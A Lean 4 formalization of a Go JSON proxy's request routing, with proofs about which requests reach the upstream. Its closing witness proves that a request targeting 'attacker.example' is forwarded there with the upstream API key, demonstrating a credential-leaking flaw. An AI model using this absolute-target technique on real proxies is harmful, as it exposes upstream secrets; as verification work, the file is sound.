import JsonProxy.Api
import JsonProxy.Go.Http.ServeMux

/-!
# The server `build` assembles

`build` registers four handlers on an `http.ServeMux`: a health check, a forced panic, the key
API under `/<APIPrefix>/` through `http.StripPrefix`, and the proxy at `/`, which gets every
path no longer pattern matches.  `service.New` wraps that mux in request logging, panic
recovery, the debug endpoints of `debug.Wrap` and metrics.  Logging and metrics do not change
what a client sees; `debug.Wrap` puts a second mux in front, with its own endpoints and its own
redirects; recovery turns a panic into a 500 answer.  `Server.serveHTTP` is that stack on one
request.

The results say which requests reach the upstream: exactly those the proxy's own handler
forwards, among the requests that both muxes hand to `/` with a clean path (or a `CONNECT`),
and always the request as the client sent it (`Server.serveHTTP_upstream_iff`).  On those paths
the whole stack is the proxy, with recovery after it (`Server.serveHTTP_of_proxyPath`), and on
`/<APIPrefix>/keys` it is the key API's `generateKey`, whatever the prefix
(`Server.serveHTTP_keys`).
-/

namespace JsonProxy

open Go Go.Ascii

/-! ## The handlers and their muxes -/

/-- The handlers `build` registers. -/
inductive Route where
  /-- `fmt.Fprintln(w, "OK")`. -/
  | healthcheck
  /-- `panic("Forced panic")`. -/
  | forcedPanic
  /-- `http.StripPrefix(pathPrefix, api.Handler())`. -/
  | api (pathPrefix : Bytes)
  /-- The proxy. -/
  | proxy
  deriving DecidableEq, Repr

/-- The handlers `api.Handler()` registers. -/
inductive ApiRoute where
  /-- `a.generateKey`. -/
  | keys
  /-- `respond(w, errResponse{Error: errDetail{Code: "not_found"}}, http.StatusNotFound)`. -/
  | notFound
  deriving DecidableEq, Repr

/-- The handlers `debug.Wrap(handler)` registers: one of its endpoints, by pattern, or the
handler it wraps. -/
inductive DebugRoute where
  | endpoint (pattern : Bytes)
  | app
  deriving DecidableEq, Repr

/-- `prefix := "/" + spec.APIPrefix`. -/
def apiPathPrefix (apiPrefix : Bytes) : Bytes :=
  slash :: apiPrefix

/-- The patterns and handlers of `build`, in the order it registers them. -/
def buildRegistrations (apiPrefix : Bytes) : List (Bytes × Route) :=
  [(utf8 "/debug/healthcheck", .healthcheck), (utf8 "/debug/panic", .forcedPanic),
    (apiPathPrefix apiPrefix ++ [slash], .api (apiPathPrefix apiPrefix)), ([slash], .proxy)]

/-- `build`'s mux. -/
def buildMux (apiPrefix : Bytes) : Except Error (ServeMux Route) :=
  ServeMux.empty.handleAll (buildRegistrations apiPrefix)

/-- The patterns and handlers of `api.Handler()`. -/
def apiRegistrations : List (Bytes × ApiRoute) :=
  [(utf8 "/keys", .keys), ([slash], .notFound)]

/-- `api.Handler()`'s mux. -/
def apiHandlerMux : Except Error (ServeMux ApiRoute) :=
  ServeMux.empty.handleAll apiRegistrations

/-- The endpoints of `debug.Wrap`. -/
def debugPatterns : List Bytes :=
  [utf8 "/debug/pprof/", utf8 "/debug/pprof/cmdline", utf8 "/debug/pprof/profile",
    utf8 "/debug/pprof/symbol", utf8 "/debug/pprof/block", utf8 "/debug/vars", utf8 "/debug/gc"]

/-- The patterns and handlers of `debug.Wrap(handler)`. -/
def debugRegistrations : List (Bytes × DebugRoute) :=
  debugPatterns.map (fun pattern => (pattern, .endpoint pattern)) ++ [([slash], .app)]

/-- `debug.Wrap(handler)`'s mux. -/
def debugWrapMux : Except Error (ServeMux DebugRoute) :=
  ServeMux.empty.handleAll debugRegistrations

/-! ## What the client is sent -/

/-- What the server writes for a request. -/
inductive Written where
  /-- What the proxy or the key API leaves on the writer. -/
  | reply (reply : Reply)
  /-- A plain-text answer: the health check's, or `http.NotFound`'s. -/
  | text (status : Nat) (body : Bytes)
  /-- `RedirectHandler(path, StatusMovedPermanently)`. -/
  | redirectTree (path : Bytes)
  /-- `RedirectHandler(url.String(), StatusMovedPermanently)`. -/
  | redirectClean (url : URL)
  /-- `w.WriteHeader(StatusBadRequest)` for the target `*`, after `Connection: close` if
  `close`. -/
  | badRequest (close : Bool)
  /-- One of `debug.Wrap`'s endpoints. -/
  | debug (pattern : Bytes)
  /-- `http.Error(w, body, http.StatusInternalServerError)` after a panic: a status line and
  header fields already written stay as they were. -/
  | internalError (sent : Option (Nat × Header)) (body : Bytes)

/-- `http.NotFound(w, r)`. -/
def notFoundText : Written :=
  .text statusNotFound (utf8 "404 page not found\n")

/-- What a mux does with a request: it answers the target `*` and serves its own handlers
itself, and hands a registered handler to `serve`. -/
def runMux {α : Type} (serve : α → Option Request × Written) : Dispatch α → Option Request × Written
  | .badRequest close => (none, .badRequest close)
  | .serve (.handler h) => serve h
  | .serve (.redirectTree path) => (none, .redirectTree path)
  | .serve (.redirectClean url) => (none, .redirectClean url)
  | .serve .notFound => (none, notFoundText)

/-- A hexadecimal digit, in lower case. -/
def hexDigit (d : Nat) : UInt8 :=
  if d < 10 then (48 + d).toUInt8 else (87 + d).toUInt8

/-- `fmt.Sprintf("%016x", id)` for an id below `2 ^ 64`. -/
def hex016 (id : Nat) : Bytes :=
  (List.range 16).reverse.map fun i => hexDigit (id / 16 ^ i % 16)

/-- `recoveryHandler.ServeHTTP`: a panic becomes `http.Error(w, body, 500)`, whose body names
the id drawn for it with `rand.Int63()`. -/
def recoverPanic (panicId : Nat) : Written → Written
  | .reply (.panicked sent _) =>
    .internalError sent (utf8 "Internal Server Error\n" ++ hex016 panicId ++ utf8 "\n")
  | written => written

/-! ## The server -/

/-- What `build` assembles: the proxy and the key API, the decoder of the API's request bodies,
the specification's `APIPrefix`, and the three muxes, each as registering its patterns made
it. -/
structure Server where
  proxy : Proxy
  api : API
  decode : Bytes → Except Error KeyRequest
  apiPrefix : Bytes
  mux : ServeMux Route
  built : buildMux apiPrefix = .ok mux
  apiMux : ServeMux ApiRoute
  apiBuilt : apiHandlerMux = .ok apiMux
  debugMux : ServeMux DebugRoute
  debugBuilt : debugWrapMux = .ok debugMux

namespace Server

/-- `api.Handler()` on a request with the prefix cut off. -/
def serveApi (srv : Server) (requestURI : Bytes) (r : Request) : Option Request × Written :=
  runMux (fun
      | .keys => (none, .reply (srv.api.generateKey srv.decode r))
      | .notFound => (none, .reply (notFound [])))
    (srv.apiMux.serveHTTP requestURI r)

/-- The handler `build` registers for each route, on a request. -/
def serveRoute (srv : Server) (rt : Runtime) (requestURI : Bytes) (r : Request) :
    Route → Option Request × Written
  | .healthcheck => (none, .text statusOK (utf8 "OK\n"))
  | .forcedPanic => (none, .reply (.panicked none ⟨utf8 "Forced panic"⟩))
  | .api pathPrefix =>
    match stripPrefix pathPrefix r with
    | some stripped => srv.serveApi requestURI stripped
    | none => (none, notFoundText)
  | .proxy => ((srv.proxy.serveHTTP rt r).1, .reply (srv.proxy.serveHTTP rt r).2)

/-- `build`'s mux on a request. -/
def serveApp (srv : Server) (rt : Runtime) (requestURI : Bytes) (r : Request) :
    Option Request × Written :=
  runMux (srv.serveRoute rt requestURI r) (srv.mux.serveHTTP requestURI r)

/-- The handler `build` returns, `service.New(mux, recovery.LogOnPanic)`, on a request whose
request line named `requestURI`: the request handed to the upstream, if one is, and what the
client is sent.  `panicId` is the id `recovery` draws for a panic. -/
def serveHTTP (srv : Server) (rt : Runtime) (panicId : Nat) (requestURI : Bytes) (r : Request) :
    Option Request × Written :=
  let served := runMux (fun
      | .endpoint pattern => (none, .debug pattern)
      | .app => srv.serveApp rt requestURI r)
    (srv.debugMux.serveHTTP requestURI r)
  (served.1, recoverPanic panicId served.2)

/-- A path the whole stack hands to the proxy: one that of both muxes only the pattern `/`
matches. -/
def ProxyPath (srv : Server) (path : Bytes) : Prop :=
  ServeMux.RootPath debugRegistrations path ∧
    ServeMux.RootPath (buildRegistrations srv.apiPrefix) path

instance (srv : Server) (path : Bytes) : Decidable (srv.ProxyPath path) :=
  inferInstanceAs (Decidable (_ ∧ _))

end Server

/-! ## Routing -/

/-- Every pattern of `build` is rooted, so its mux has no host-specific patterns. -/
theorem buildRegistrations_rooted (apiPrefix : Bytes) :
    ∀ pattern ∈ (buildRegistrations apiPrefix).map Prod.fst, pattern.head? = some slash := by
  simp only [buildRegistrations, List.map_cons, List.map_nil, List.mem_cons, List.not_mem_nil,
    or_false, forall_eq_or_imp, forall_eq]
  exact ⟨by decide, by decide, rfl, rfl⟩

/-- A mux hands a request upstream only through a handler registered on it. -/
theorem runMux_fst_eq_some {α : Type} {serve : α → Option Request × Written} {d : Dispatch α}
    {outreq : Request} (forwarded : (runMux serve d).1 = some outreq) :
    ∃ h, d = .serve (.handler h) ∧ (serve h).1 = some outreq := by
  cases d with
  | badRequest close => simp [runMux] at forwarded
  | serve target =>
      cases target with
      | handler h => exact ⟨h, rfl, forwarded⟩
      | redirectTree path => simp [runMux] at forwarded
      | redirectClean url => simp [runMux] at forwarded
      | notFound => simp [runMux] at forwarded

namespace Server

variable (srv : Server)

/-- The key API never contacts the upstream. -/
theorem serveApi_fst (requestURI : Bytes) (r : Request) :
    (srv.serveApi requestURI r).1 = none := by
  unfold serveApi
  cases srv.apiMux.serveHTTP requestURI r with
  | badRequest close => rfl
  | serve target =>
      cases target with
      | handler h => cases h <;> rfl
      | redirectTree path => rfl
      | redirectClean url => rfl
      | notFound => rfl

/-- `debug.Wrap`'s mux hands the application exactly the paths only its `/` matches. -/
theorem debugMux_handlerAt_iff (host path : Bytes) :
    (srv.debugMux.handlerAt host path).1 = .handler .app ↔
      ServeMux.RootPath debugRegistrations path :=
  ServeMux.handlerAt_eq_root_iff srv.debugBuilt (by decide) (by simp [debugRegistrations])
    (by simp [debugRegistrations]) host path

/-- `build`'s mux hands the proxy exactly the paths only its `/` matches. -/
theorem mux_handlerAt_iff (host path : Bytes) :
    (srv.mux.handlerAt host path).1 = .handler .proxy ↔
      ServeMux.RootPath (buildRegistrations srv.apiPrefix) path :=
  ServeMux.handlerAt_eq_root_iff srv.built (buildRegistrations_rooted srv.apiPrefix)
    (by simp [buildRegistrations]) (by simp [buildRegistrations]) host path

/-- A request that `debug.Wrap` hands on and `build`'s mux gives to a route is served by that
route's handler, with recovery after it. -/
theorem serveHTTP_of_route (rt : Runtime) (panicId : Nat) {requestURI : Bytes} {r : Request}
    {route : Route} (notStar : requestURI ≠ utf8 "*")
    (clean : r.method = utf8 "CONNECT" ∨ Http.cleanPath r.url.path = r.url.path)
    (toApp : ServeMux.RootPath debugRegistrations r.url.path)
    (routed : (srv.mux.handlerAt r.host r.url.path).1 = .handler route) :
    srv.serveHTTP rt panicId requestURI r =
      ((srv.serveRoute rt requestURI r route).1,
        recoverPanic panicId (srv.serveRoute rt requestURI r route).2) := by
  have debugServed := ServeMux.serveHTTP_of_clean srv.debugMux notStar clean
  have appServed := ServeMux.serveHTTP_of_clean srv.mux notStar clean
  rw [(srv.debugMux_handlerAt_iff _ _).mpr toApp] at debugServed
  rw [routed] at appServed
  simp only [serveHTTP, serveApp, debugServed, appServed, runMux]

variable {srv}

/-- Only the proxy hands a request upstream, and only when both muxes route the request to
`/`. -/
theorem routed_of_upstream {rt : Runtime} {panicId : Nat} {requestURI : Bytes}
    {r outreq : Request} (forwarded : (srv.serveHTTP rt panicId requestURI r).1 = some outreq) :
    requestURI ≠ utf8 "*" ∧
      (r.method = utf8 "CONNECT" ∨ Http.cleanPath r.url.path = r.url.path) ∧
      (srv.debugMux.handlerAt r.host r.url.path).1 = .handler .app ∧
      (srv.mux.handlerAt r.host r.url.path).1 = .handler .proxy ∧
      (srv.proxy.serveHTTP rt r).1 = some outreq := by
  obtain ⟨route, debugServed, forwarded⟩ := runMux_fst_eq_some forwarded
  obtain ⟨notStar, clean, toApp⟩ := ServeMux.serveHTTP_eq_handler srv.debugMux debugServed
  cases route with
  | endpoint pattern => simp at forwarded
  | app =>
      obtain ⟨route, appServed, forwarded⟩ := runMux_fst_eq_some forwarded
      cases route with
      | healthcheck => simp [serveRoute] at forwarded
      | forcedPanic => simp [serveRoute] at forwarded
      | api pathPrefix =>
          -- the key API answers on its own
          cases stripped : stripPrefix pathPrefix r with
          | none => simp [serveRoute, stripped, notFoundText] at forwarded
          | some request => simp [serveRoute, stripped, serveApi_fst] at forwarded
      | proxy =>
          obtain ⟨-, -, toProxy⟩ := ServeMux.serveHTTP_eq_handler srv.mux appServed
          exact ⟨notStar, clean, toApp, toProxy, forwarded⟩

/-! ## What reaches the upstream -/

variable (srv)

/-- The server hands a request upstream exactly when the request line is not `*`, its path is
clean (or its method `CONNECT`), both muxes give its path to `/`, and the proxy forwards it; the
request the proxy gets is the client's, unchanged. -/
theorem serveHTTP_upstream_iff (rt : Runtime) (panicId : Nat) (requestURI : Bytes)
    (r outreq : Request) :
    (srv.serveHTTP rt panicId requestURI r).1 = some outreq ↔
      requestURI ≠ utf8 "*" ∧
        (r.method = utf8 "CONNECT" ∨ Http.cleanPath r.url.path = r.url.path) ∧
        srv.ProxyPath r.url.path ∧ (srv.proxy.serveHTTP rt r).1 = some outreq := by
  constructor
  · intro forwarded
    obtain ⟨notStar, clean, toApp, toProxy, forwarded⟩ := routed_of_upstream forwarded
    exact ⟨notStar, clean, ⟨(srv.debugMux_handlerAt_iff _ _).mp toApp,
      (srv.mux_handlerAt_iff _ _).mp toProxy⟩, forwarded⟩
  · rintro ⟨notStar, clean, ⟨debugRoot, appRoot⟩, forwarded⟩
    rw [srv.serveHTTP_of_route rt panicId notStar clean debugRoot
      ((srv.mux_handlerAt_iff _ _).mpr appRoot)]
    exact forwarded

/-- On a proxy path with a clean path, the whole stack is the proxy, with recovery after it. -/
theorem serveHTTP_of_proxyPath (rt : Runtime) (panicId : Nat) {requestURI : Bytes}
    {r : Request} (notStar : requestURI ≠ utf8 "*")
    (clean : r.method = utf8 "CONNECT" ∨ Http.cleanPath r.url.path = r.url.path)
    (toProxy : srv.ProxyPath r.url.path) :
    srv.serveHTTP rt panicId requestURI r =
      ((srv.proxy.serveHTTP rt r).1,
        recoverPanic panicId (.reply (srv.proxy.serveHTTP rt r).2)) :=
  srv.serveHTTP_of_route rt panicId notStar clean toProxy.1
    ((srv.mux_handlerAt_iff _ _).mpr toProxy.2)

variable {srv}

/-- Through the whole server, a forwarded request whose target carries a scheme of its own goes
to the scheme and host the client named, with the upstream API key of the client's key. -/
theorem serveHTTP_absoluteTarget {rt : Runtime} {panicId : Nat} {requestURI : Bytes}
    {r outreq : Request} (valid : rt.headerOrder.Valid)
    (forwarded : (srv.serveHTTP rt panicId requestURI r).1 = some outreq)
    (absolute : r.url.scheme ≠ []) :
    outreq.url = { r.url with path := Url.removeDotSegments r.url.path } ∧
      ∃ key, srv.proxy.authenticate rt r = .ok key ∧
        outreq.header.lookup authorization = some [upstreamAuthorization rt key.apiKey] := by
  obtain ⟨-, -, -, -, forwarded⟩ := routed_of_upstream forwarded
  obtain ⟨key, auth, rfl⟩ := Proxy.serveHTTP_fst_eq_some forwarded
  obtain ⟨url, header⟩ := Proxy.outreq_of_scheme valid srv.proxy absolute key.apiKey
  exact ⟨url, key, auth, header⟩

/-! ## The key API -/

variable (srv)

/-- The path of the key API's subtree pattern, which begins the path of `/keys` under it. -/
theorem pathMatch_apiPattern_keys (apiPrefix : Bytes) :
    Http.pathMatch (apiPathPrefix apiPrefix ++ [slash]) (apiPathPrefix apiPrefix ++ utf8 "/keys") =
      true := by
  have split : utf8 "/keys" = [slash] ++ utf8 "keys" := rfl
  have tree : (apiPathPrefix apiPrefix ++ [slash]).getLast? = some slash := by simp
  rw [Http.pathMatch, if_neg (by simp [apiPathPrefix]), if_pos tree, split, ← List.append_assoc]
  exact decide_eq_true (List.prefix_append _ _)

/-- Of `build`'s patterns, the API's subtree is the longest match for the path of `/keys` under
it: the other patterns that end in a byte of their own are exact and end in another byte. -/
theorem longestPattern_apiKeys (apiPrefix : Bytes) :
    ServeMux.LongestPattern (buildRegistrations apiPrefix)
      (apiPathPrefix apiPrefix ++ utf8 "/keys") (apiPathPrefix apiPrefix ++ [slash]) := by
  refine ⟨pathMatch_apiPattern_keys apiPrefix, ?_⟩
  -- the exact patterns end in another byte than the path does
  have lastKeys : (apiPathPrefix apiPrefix ++ utf8 "/keys").getLast? = some (utf8 "s").head! := by
    rw [List.getLast?_append_of_ne_nil _ (by decide)]
    rfl
  have exactPattern : ∀ k : Bytes, k.getLast? ≠ some slash → k.getLast? ≠ some (utf8 "s").head! →
      (Http.pathMatch k (apiPathPrefix apiPrefix ++ utf8 "/keys") = true →
        k.length ≤ (apiPathPrefix apiPrefix ++ [slash]).length) ∧
      (k.getLast? = some slash →
        Http.pathMatch k.dropLast (apiPathPrefix apiPrefix ++ utf8 "/keys") = true →
          k.dropLast.length ≤ (apiPathPrefix apiPrefix ++ [slash]).length) := by
    intro k notTree otherLast
    refine ⟨fun matched => ?_, fun tree => absurd tree notTree⟩
    rw [Http.eq_of_pathMatch matched notTree] at otherLast
    exact absurd lastKeys otherLast
  simp only [buildRegistrations, List.map_cons, List.map_nil, List.mem_cons, List.not_mem_nil,
    or_false]
  rintro k (rfl | rfl | rfl | rfl)
  · exact exactPattern _ (by decide) (by decide)
  · exact exactPattern _ (by decide) (by decide)
  · simp
  · simp [apiPathPrefix, Http.pathMatch]

/-- A request on the path `/<APIPrefix>/keys` reaches `generateKey` with the prefix cut off, and
never the upstream, unless one of `debug.Wrap`'s endpoints claims the path. -/
theorem serveHTTP_keys (rt : Runtime) (panicId : Nat) {requestURI : Bytes} {r : Request}
    (notStar : requestURI ≠ utf8 "*")
    (atKeys : r.url.path = apiPathPrefix srv.apiPrefix ++ utf8 "/keys")
    (clean : r.method = utf8 "CONNECT" ∨ Http.cleanPath r.url.path = r.url.path)
    (toApp : ServeMux.RootPath debugRegistrations r.url.path) :
    srv.serveHTTP rt panicId requestURI r =
      (none, recoverPanic panicId (.reply (srv.api.generateKey srv.decode
        { r with url := { r.url with path := utf8 "/keys" } }))) := by
  have routed : (srv.mux.handlerAt r.host r.url.path).1 =
      .handler (.api (apiPathPrefix srv.apiPrefix)) := by
    rw [atKeys]
    exact (ServeMux.handlerAt_eq_handler_iff srv.built (buildRegistrations_rooted _) _ _).mpr
      ⟨_, List.mem_cons_of_mem _ (List.mem_cons_of_mem _ List.mem_cons_self),
        longestPattern_apiKeys _⟩
  -- `StripPrefix` leaves `/keys`, which `api.Handler()`'s mux gives to `generateKey`
  have stripped : stripPrefix (apiPathPrefix srv.apiPrefix) r =
      some { r with url := { r.url with path := utf8 "/keys" } } := by
    have begins : apiPathPrefix srv.apiPrefix <+: r.url.path := by
      rw [atKeys]
      exact List.prefix_append _ _
    rw [stripPrefix, if_neg (by simp [apiPathPrefix]), if_pos begins, atKeys, List.drop_left]
  have apiServed : srv.apiMux.serveHTTP requestURI
      { r with url := { r.url with path := utf8 "/keys" } } = .serve (.handler .keys) := by
    rw [ServeMux.serveHTTP_of_clean srv.apiMux notStar
      (.inr (show Http.cleanPath (utf8 "/keys") = utf8 "/keys" by decide))]
    rw [ServeMux.handlerAt_of_mem srv.apiBuilt (by decide) List.mem_cons_self _]
  rw [srv.serveHTTP_of_route rt panicId notStar clean toApp routed]
  simp only [serveRoute, stripped, serveApi, apiServed, runMux]

end Server

/-! ## Running it

The witnesses run the stack of `build` with the default `APIPrefix`, `jsonproxy`, over the
proxy and roles of `Proxy.Serve`. -/

def exampleServer : Server where
  proxy := exampleProxy
  api := buildAPI ⟨plainAead⟩ onesRand (Time.ofUnix 0) plainBase64 exampleRoles
  decode _ := .ok readerKeyRequest
  apiPrefix := utf8 "jsonproxy"
  mux := (buildMux (utf8 "jsonproxy")).toOption.getD ServeMux.empty
  built := rfl
  apiMux := apiHandlerMux.toOption.getD ServeMux.empty
  apiBuilt := rfl
  debugMux := debugWrapMux.toOption.getD ServeMux.empty
  debugBuilt := rfl

theorem serveHTTP_of_proxyPath_users :
    utf8 "/users" ≠ utf8 "*" ∧
    ((exampleRequest [] [] (utf8 "/users")).method = utf8 "CONNECT" ∨
      Http.cleanPath (exampleRequest [] [] (utf8 "/users")).url.path =
        (exampleRequest [] [] (utf8 "/users")).url.path) ∧
    exampleServer.ProxyPath (exampleRequest [] [] (utf8 "/users")).url.path ∧
    exampleServer.serveHTTP exampleRuntime 0 (utf8 "/users") (exampleRequest [] [] (utf8 "/users")) =
      ((exampleServer.proxy.serveHTTP exampleRuntime (exampleRequest [] [] (utf8 "/users"))).1,
        recoverPanic 0 (.reply
          (exampleServer.proxy.serveHTTP exampleRuntime (exampleRequest [] [] (utf8 "/users"))).2)) :=
  ⟨by decide, .inr (by decide), by decide,
    exampleServer.serveHTTP_of_proxyPath exampleRuntime 0 (by decide) (.inr (by decide))
      (by decide)⟩

/-- The request line `GET http://attacker.example/users HTTP/1.1` with the proxy key `k`, as
net/http's server parses it: the target keeps its scheme and host, and the host becomes the
request's. -/
def attackerRequest : Request :=
  { exampleRequest (utf8 "http") (utf8 "attacker.example") (utf8 "/users") with
    host := utf8 "attacker.example" }

/-- Through `build`'s stack, the attacker's request reaches the proxy, which sends it to
`attacker.example` with the upstream API key. -/
theorem serveHTTP_absoluteTarget_attacker :
    (exampleServer.serveHTTP exampleRuntime 0 (utf8 "http://attacker.example/users")
        attackerRequest).1 = some (exampleProxy.outreq exampleRuntime attackerRequest (utf8 "SECRET")) ∧
    (exampleProxy.outreq exampleRuntime attackerRequest (utf8 "SECRET")).url =
      { attackerRequest.url with path := Url.removeDotSegments attackerRequest.url.path } ∧
    ∃ key, exampleServer.proxy.authenticate exampleRuntime attackerRequest = .ok key ∧
      (exampleProxy.outreq exampleRuntime attackerRequest (utf8 "SECRET")).header.lookup
          authorization = some [upstreamAuthorization exampleRuntime key.apiKey] :=
  ⟨rfl, @Server.serveHTTP_absoluteTarget exampleServer exampleRuntime 0
    (utf8 "http://attacker.example/users") attackerRequest _ Schedule.stored_valid rfl (by decide)⟩

/-- `POST /jsonproxy/keys`. -/
def prefixedKeysPost : Request :=
  { exampleRequest [] [] (utf8 "/jsonproxy/keys") with method := utf8 "POST" }

theorem serveHTTP_keys_post :
    utf8 "/jsonproxy/keys" ≠ utf8 "*" ∧
    prefixedKeysPost.url.path = apiPathPrefix exampleServer.apiPrefix ++ utf8 "/keys" ∧
    Http.cleanPath prefixedKeysPost.url.path = prefixedKeysPost.url.path ∧
    ServeMux.RootPath debugRegistrations prefixedKeysPost.url.path ∧
    exampleServer.serveHTTP exampleRuntime 0 (utf8 "/jsonproxy/keys") prefixedKeysPost =
      (none, recoverPanic 0 (.reply (exampleServer.api.generateKey exampleServer.decode
        { prefixedKeysPost with url := { prefixedKeysPost.url with path := utf8 "/keys" } }))) :=
  ⟨by decide, rfl, by decide, by decide,
    exampleServer.serveHTTP_keys exampleRuntime 0 (by decide) rfl (.inr (by decide))
      (by decide)⟩

end JsonProxy
